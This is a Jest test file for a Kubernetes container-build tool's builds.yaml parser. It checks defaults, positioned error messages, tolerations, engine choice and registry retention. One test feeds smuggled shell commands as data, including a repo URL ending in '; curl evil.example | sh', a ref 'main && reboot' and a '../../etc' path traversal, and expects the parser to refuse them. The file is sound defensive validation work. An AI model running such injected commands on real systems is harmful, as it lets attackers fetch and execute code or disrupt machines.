import { DEFAULT_BUILDER_RESOURCES } from '../../lib/constructs/builder-container';
import { DEFAULT_BUILDER_AMOUNTS } from '../../lib/config/quantity';
import { mkdtempSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { ConfigError, loadBuildsFile, parseBuildsFile } from '../../lib/config/builds-file';
import { REFUSED_AT_SYNTH } from '../support/refused-at-synth';
import { SEED_BUILD } from '../support/synth';

function problemsOf(text: string): string {
  try {
    parseBuildsFile(text, 'builds.yaml');
  } catch (e) {
    expect(e).toBeInstanceOf(ConfigError);
    return (e as Error).message;
  }
  throw new Error('expected a ConfigError');
}

describe('parseBuildsFile: defaults', () => {
  test('the seed build gets ref main, context "." and Dockerfile defaults', () => {
    const file = parseBuildsFile(SEED_BUILD);
    expect(file.registry).toEqual({});
    expect(file.builders).toEqual({});
    expect(file.builds).toEqual([{
      engine: 'docker',
      repo: 'https://github.com/jpetazzo/container.training',
      ref: 'main',
      defaultBranch: 'main',
      images: [{ context: 'dockercoins/worker', dockerfile: 'Dockerfile' }],
      trigger: { branches: ['main'], tags: ['main'] },
    }]);
  });

  test('trigger: pushes of the build\'s own ref by default, none for a SHA; patterns as written', () => {
    const sha = parseBuildsFile('builds:\n  - repo: https://example.com/a.git\n    ref: 0123456789abcdef0123456789abcdef01234567\n');
    expect(sha.builds[0].trigger).toEqual({ branches: [], tags: [] });
    const set = parseBuildsFile('builds:\n  - repo: https://example.com/a.git\n    trigger: {branches: [main, "release/*"], tags: ["v*"]}\n');
    expect(set.builds[0].trigger).toEqual({ branches: ['main', 'release/*'], tags: ['v*'] });
  });

  test('trigger: unknown keys and patterns no ref could match are refused with file:line', () => {
    const text = 'builds:\n  - repo: https://example.com/a.git\n    trigger:\n      branch: [main]\n      tags: ["v*", "bad..tag", "-x"]\n';
    expect(() => parseBuildsFile(text)).toThrow(/builds.yaml:4:7: builds\[0\]\.trigger\.branch: unknown key "branch": allowed keys here: branches, tags/);
    const bad = 'builds:\n  - repo: https://example.com/a.git\n    trigger:\n      tags: ["v*", "bad..tag", "-x"]\n';
    let message = '';
    try { parseBuildsFile(bad); } catch (e) { message = (e as Error).message; }
    expect(message.split('\n')).toEqual([
      expect.stringMatching(/^builds.yaml:4:20: builds\[0\]\.trigger\.tags\[1\]: "bad\.\.tag" contains "\.\.".*\(patterns may use \* and \*\*\)$/),
      expect.stringMatching(/^builds.yaml:4:32: builds\[0\]\.trigger\.tags\[2\]: "-x" starts with "-"/),
    ]);
  });

  test('a build without images builds the repository root', () => {
    const file = parseBuildsFile('builds: [{repo: "https://x.example/app.git", ref: v1.0.0, defaultBranch: master}]');
    expect(file.builds[0]).toMatchObject({ ref: 'v1.0.0', defaultBranch: 'master', images: [{ context: '.', dockerfile: 'Dockerfile' }] });
  });

  test('paths are normalized', () => {
    const file = parseBuildsFile('builds: [{repo: "https://x.example/app.git", images: [{context: ./svc/api/, dockerfile: ./docker/Dockerfile.prod}]}]');
    expect(file.builds[0].images[0]).toEqual({ context: 'svc/api', dockerfile: 'docker/Dockerfile.prod' });
  });
});

describe('parseBuildsFile: errors name the file, line, key and fix', () => {
  test('unknown key', () => {
    expect(problemsOf(`builds:
  - repo: https://x.example/app.git
    images:
      - context: api
        name: my-api
`)).toBe('builds.yaml:5:9: builds[0].images[0].name: unknown key "name": image names are derived from the context directory (or the repository name) and cannot be set; remove it');
  });

  test('unknown top-level key lists the allowed ones', () => {
    expect(problemsOf(`registy: {nodePort: 30500}\n${SEED_BUILD}`)).toBe(
      'builds.yaml:1:1: registy: unknown key "registy": allowed keys here: registry, builders, buildTrigger, builds');
  });

  test('wrong type', () => {
    expect(problemsOf(`registry:\n  nodePort: "30500"\n${SEED_BUILD}`)).toBe(
      'builds.yaml:2:13: registry.nodePort: must be a whole number, got string "30500"');
    expect(problemsOf('builds: {repo: x}')).toBe('builds.yaml:1:9: builds: must be a array, got a mapping');
  });

  test('nodePort out of range', () => {
    expect(problemsOf(`registry:\n  nodePort: 5000\n${SEED_BUILD}`)).toBe(
      'builds.yaml:2:13: registry.nodePort: 5000 is outside the NodePort range 30000-32767; pick a value in 30000-32767');
    expect(problemsOf(`registry:\n  nodePort: 40000\n${SEED_BUILD}`)).toMatch(/40000 is outside the NodePort range 30000-32767/);
  });

  test('empty or missing builds', () => {
    expect(problemsOf('builds: []')).toBe('builds.yaml:1:9: builds: must list at least 1 item');
    expect(problemsOf('registry: {nodePort: 30500}')).toBe('builds.yaml:1:1: (top level): missing required key "builds": add it');
    expect(problemsOf('')).toMatch(/must be a object, got null/);
  });

  test('every problem is reported at once', () => {
    const message = problemsOf(`registry: {nodePort: 1}
builders: {workload: Deployment}
builds:
  - repo: https://x.example/app.git
    tag: v1
`);
    expect(message.split('\n')).toEqual([
      'builds.yaml:1:22: registry.nodePort: 1 is outside the NodePort range 30000-32767; pick a value in 30000-32767',
      'builds.yaml:2:22: builders.workload: "Deployment" is not one of "Job", "Pod"',
      'builds.yaml:5:5: builds[0].tag: unknown key "tag": tags are derived from "ref"; set the ref to the branch or tag to build instead',
    ]);
  });

  test('duplicate keys are YAML errors, not silently merged', () => {
    expect(problemsOf(`builds:
  - repo: https://x.example/a.git
    repo: https://x.example/b.git
`)).toMatch(/^builds\.yaml:3:5: \(top level\): YAML error: Map keys must be unique/);
  });

  test('YAML syntax errors carry their position', () => {
    expect(problemsOf('builds:\n  - repo: [unclosed\n')).toMatch(/^builds\.yaml:\d+:\d+: \(top level\): YAML error: /);
  });

  test('source rules: ref, repo and paths', () => {
    const message = problemsOf(`builds:
  - repo: "https://x.example/app.git; curl evil.example | sh"
    ref: "main && reboot"
    images:
      - context: ../../etc
        dockerfile: /Dockerfile
`);
    expect(message.split('\n')).toEqual([
      expect.stringMatching(/^builds\.yaml:2:11: builds\[0\]\.repo: ".*" contains a space or shell character; use a URL such as/),
      expect.stringMatching(/^builds\.yaml:3:10: builds\[0\]\.ref: "main && reboot" contains a space, control or shell character; use a branch name/),
      expect.stringMatching(/^builds\.yaml:5:18: builds\[0\]\.images\[0\]\.context: "\.\.\/\.\.\/etc" escapes the repository with "\.\."/),
      expect.stringMatching(/^builds\.yaml:6:21: builds\[0\]\.images\[0\]\.dockerfile: "\/Dockerfile" is absolute/),
    ]);
  });

  test('a Dockerfile may leave its context but not the repository; buildkit keeps it in the context', () => {
    const ok = parseBuildsFile('builds: [{repo: "https://x.example/app.git", images: [{context: services/api, dockerfile: ../../docker/api.Dockerfile}]}]');
    expect(ok.builds[0].images[0]).toEqual({ context: 'services/api', dockerfile: '../../docker/api.Dockerfile' });
    expect(problemsOf(`builds:
  - repo: https://x.example/app.git
    images:
      - context: services/api
        dockerfile: ../../../Dockerfile
  - repo: https://x.example/other.git
    engine: buildkit
    images:
      - context: services/api
        dockerfile: ../Dockerfile
`).split('\n')).toEqual([
      expect.stringMatching(/^builds\.yaml:5:21: builds\[0\]\.images\[0\]\.dockerfile: "\.\.\/\.\.\/\.\.\/Dockerfile" escapes the repository from context "services\/api"/),
      expect.stringMatching(/^builds\.yaml:10:21: builds\[1\]\.images\[0\]\.dockerfile: "\.\.\/Dockerfile" leaves the context .* the buildkit engine reads the Dockerfile/),
    ]);
  });

  test('a token in the repository URL is refused and not repeated in the message (it would reach logs)', () => {
    const message = problemsOf('builds:\n  - repo: https://ghp_0123456789abcdefghijklmnopqrstuvwxyz@github.com/team/app.git\n');
    expect(message).toMatch(/^builds\.yaml:2:11: builds\[0\]\.repo: "https:\/\/\*\*\*@github\.com\/team\/app\.git" has a user part, which in https:\/\/ URLs is a credential/);
    expect(message).not.toContain('ghp_');
  });

  test('placement values are checked', () => {
    expect(problemsOf(`builders:
  nodeSelector: {builder: true}
  tolerations: [{key: dedicated, operator: Same, effect: NoSchedule}]
  resources: {limits: {memory: 1GB}}
${SEED_BUILD}`).split('\n')).toEqual([
      'builds.yaml:2:27: builders.nodeSelector.builder: must be a string, got boolean true (quote it)',
      'builds.yaml:3:44: builders.tolerations[0].operator: "Same" is not one of "Equal", "Exists"',
      'builds.yaml:4:32: builders.resources.limits.memory: "1GB" is not valid here (expected a whole number of Mi, Gi or Ti such as "512Mi" or "10Gi")',
    ]);
  });
});

describe('parseBuildsFile: builder rules across keys (what the API server or the workload would refuse later)', () => {
  test('workload Pod runs exactly one build', () => {
    expect(problemsOf(`builders:
  workload: Pod
builds: [{repo: "https://x.example/a.git"}, {repo: "https://x.example/b.git"}]
`)).toBe('builds.yaml:2:13: builders.workload: "Pod" runs exactly one build (the single build-image Pod), but builds lists 2; '
      + 'use workload "Job" (one Job per build) or keep one build');
    expect(() => parseBuildsFile(`builders: {workload: Pod}\n${SEED_BUILD}`)).not.toThrow();
  });

  test('tolerations: key, value, effect and tolerationSeconds as Kubernetes requires them', () => {
    expect(problemsOf(`builders:
  tolerations:
    - {operator: Equal, value: x}
    - {operator: Exists, effect: NoSchedule}
    - {key: dedicated, operator: Exists, value: builder}
    - {key: dedicated, value: builder, effect: NoSchedule, tolerationSeconds: 60}
${SEED_BUILD}`).split('\n')).toEqual([
      'builds.yaml:3:7: builders.tolerations[0]: a toleration without "key" must have operator "Exists" (it then tolerates every taint); add a key',
      'builds.yaml:4:34: builders.tolerations[1].effect: a toleration of every taint cannot be limited to one effect; add a key, or remove effect',
      'builds.yaml:5:49: builders.tolerations[2].value: operator "Exists" matches any value, so value must not be set; remove it or use operator "Equal"',
      'builds.yaml:6:79: builders.tolerations[3].tolerationSeconds: only applies to effect "NoExecute" (how long a Pod stays after the taint appears); set effect: NoExecute or remove it',
    ]);
    expect(() => parseBuildsFile(`builders:
  tolerations:
    - {operator: Exists}
    - {key: a, operator: Exists, effect: NoSchedule}
    - {key: b, value: c}
    - {key: d, operator: Equal, value: e, effect: NoExecute, tolerationSeconds: 0}
${SEED_BUILD}`)).not.toThrow();
  });
});

describe('what synth accepts, the API server accepts: refused with file:line, key and fix', () => {
  test.each(REFUSED_AT_SYNTH.map((c) => [c.what, c]))('%s', (_what, c) => {
    expect(problemsOf(c.yaml).split('\n')).toEqual([expect.stringMatching(c.refused)]);
  });

  test('the defaults themselves pass, and so do requests equal to limits', () => {
    expect(() => parseBuildsFile(`builders: {resources: {requests: {cpu: "1", memory: 1Gi}, limits: {cpu: 1000m, memory: 1024Mi}}}\n${SEED_BUILD}`)).not.toThrow();
    expect(() => parseBuildsFile(`builders: {resources: {limits: {cpu: 100m, memory: 128Mi}}}\n${SEED_BUILD}`)).not.toThrow();
    expect(() => parseBuildsFile(`builders: {nodeSelector: {"example.com/role": builder}, activeDeadlineSeconds: 9007199254740991, ttlSecondsAfterFinished: 2147483647}\n${SEED_BUILD}`)).not.toThrow();
  });

  test('the config-side defaults are the constructs\' defaults', () => {
    const d = DEFAULT_BUILDER_RESOURCES;
    expect([d.cpu?.request?.amount, d.cpu?.limit?.amount, d.memory?.request?.toMebibytes(), d.memory?.limit?.toMebibytes()])
      .toEqual([DEFAULT_BUILDER_AMOUNTS.requests.cpu, DEFAULT_BUILDER_AMOUNTS.limits.cpu, 128, 1024]);
    expect([DEFAULT_BUILDER_AMOUNTS.requests.memory, DEFAULT_BUILDER_AMOUNTS.limits.memory]).toEqual(['128Mi', '1Gi']);
  });
});

describe('loadBuildsFile', () => {
  test('reads a file and names it in errors', () => {
    const dir = mkdtempSync(join(tmpdir(), 'builds-'));
    const file = join(dir, 'custom.yaml');
    writeFileSync(file, 'builds: []\n');
    expect(() => loadBuildsFile(file)).toThrow(`${file}:1:9: builds: must list at least 1 item`);
  });

  test('a missing file says how to point at one', () => {
    expect(() => loadBuildsFile('/nonexistent/builds.yaml')).toThrow(/cannot read the file \(ENOENT\); create it or set BUILDS_CONFIG/);
  });
});

describe('parseBuildsFile: builders.engine', () => {
  test('default docker; builders.engine applies to every build; a build may override it', () => {
    expect(parseBuildsFile(SEED_BUILD).builds.map((b) => b.engine)).toEqual(['docker']);
    const file = parseBuildsFile(`builders: {engine: buildkit}
builds:
  - {repo: "https://x.example/a.git"}
  - {repo: "https://x.example/b.git", engine: docker}
`);
    expect(file.builds.map((b) => b.engine)).toEqual(['buildkit', 'docker']);
    expect(parseBuildsFile('builds: [{repo: "https://x.example/a.git", engine: buildkit}]').builds[0].engine).toBe('buildkit');
  });

  test('an unknown engine names both places with their line', () => {
    expect(problemsOf(`builders:
  engine: kaniko
builds:
  - repo: https://x.example/a.git
    engine: podman
`)).toBe([
      'builds.yaml:2:11: builders.engine: "kaniko" is not one of "docker", "buildkit"',
      'builds.yaml:5:13: builds[0].engine: "podman" is not one of "docker", "buildkit"',
    ].join('\n'));
  });

  test('buildkit: an http(s) repository URL must end in .git (BuildKit downloads any other as a file)', () => {
    const refused = (n: number, line: number, url: string, fix: string) => `builds.yaml:${line}:11: builds[${n}].repo: "${url}": the buildkit engine `
      + 'needs an http(s) repository URL that ends in .git, with no trailing slash (BuildKit treats any other http(s) URL as a file to download); '
      + fix;
    expect(problemsOf(`builders: {engine: buildkit}
builds:
  - repo: https://github.com/jpetazzo/container.training
  - repo: https://github.com/jpetazzo/container.training.git
  - repo: git@github.com:jpetazzo/container.training
  - repo: https://x.example/trailing.git/
  - repo: HTTPS://x.example/upper
  - repo: HTTPS://x.example/upper.git
  - repo: https://x.example/shouting.GIT
`)).toBe([
      refused(0, 3, 'https://github.com/jpetazzo/container.training', 'end it in .git: write "https://github.com/jpetazzo/container.training.git"'),
      // BuildKit's own test is on the path's end: a trailing slash is a file URL to it, so is any scheme case but a lower-case .git.
      refused(3, 6, 'https://x.example/trailing.git/', 'drop the trailing slash: write "https://x.example/trailing.git"'),
      refused(4, 7, 'HTTPS://x.example/upper', 'end it in .git: write "HTTPS://x.example/upper.git"'),
      refused(6, 9, 'https://x.example/shouting.GIT', 'end it in .git: write "https://x.example/shouting.git"'),
    ].join('\n'));
    // The docker engine clones with git, which takes both.
    expect(() => parseBuildsFile(SEED_BUILD)).not.toThrow();
    expect(() => parseBuildsFile(`builders: {engine: buildkit}\nbuilds: [{repo: "https://x.example/a", engine: docker}]`)).not.toThrow();
  });
});

describe('registry credentials, retention and garbage collection', () => {
  const BUILD = `builds:
  - repo: https://x.example/shop.git
    images: [{context: services/api}, {context: services/worker}]
`;

  test('all optional; given, they reach the constructs\' props', () => {
    const file = parseBuildsFile(`registry:
  auth: {htpasswdSecret: pushers, pushSecret: ci-push}
  retention: {keepCommitTags: 5, schedule: "30 2 * * 1-5", images: {worker: 20}}
  garbageCollection: {at: "03:45", drainSeconds: 10}
${BUILD}`);
    expect(file.registry).toEqual({
      auth: { htpasswdSecret: 'pushers', pushSecret: 'ci-push' },
      retention: { keepCommitTags: 5, schedule: '30 2 * * 1-5', images: { worker: 20 } },
      garbageCollection: { at: '03:45', drainSeconds: 10 },
    });
  });

  test('every problem at once, with line and fix', () => {
    expect(problemsOf(`registry:
  auth: {pushSecret: "Push_Secret"}
  retention:
    keepCommitTags: 0
    schedule: "daily"
  garbageCollection: {at: "25:00"}
${BUILD}`).split('\n')).toEqual([
      'builds.yaml:2:22: registry.auth.pushSecret: "Push_Secret" is not valid here (expected the name of a Secret: lower-case letters, digits, "-" and ".")',
      'builds.yaml:4:21: registry.retention.keepCommitTags: 0 is outside 1-1000; pick a value in 1-1000',
      'builds.yaml:5:15: registry.retention.schedule: "daily" is not valid here (expected a cron schedule of 5 fields (minute hour day month weekday, UTC) such as "0 3 * * *")',
      'builds.yaml:6:27: registry.garbageCollection.at: "25:00" is not valid here (expected a UTC time of day HH:MM such as "04:00")',
    ]);
  });

  test('a per-image policy must name an image some build pushes', () => {
    expect(problemsOf(`registry:
  retention:
    images:
      workr: 3
${BUILD}`)).toBe('builds.yaml:4:14: registry.retention.images.workr: no build pushes an image named "workr"; use one of: api, worker');
  });
});
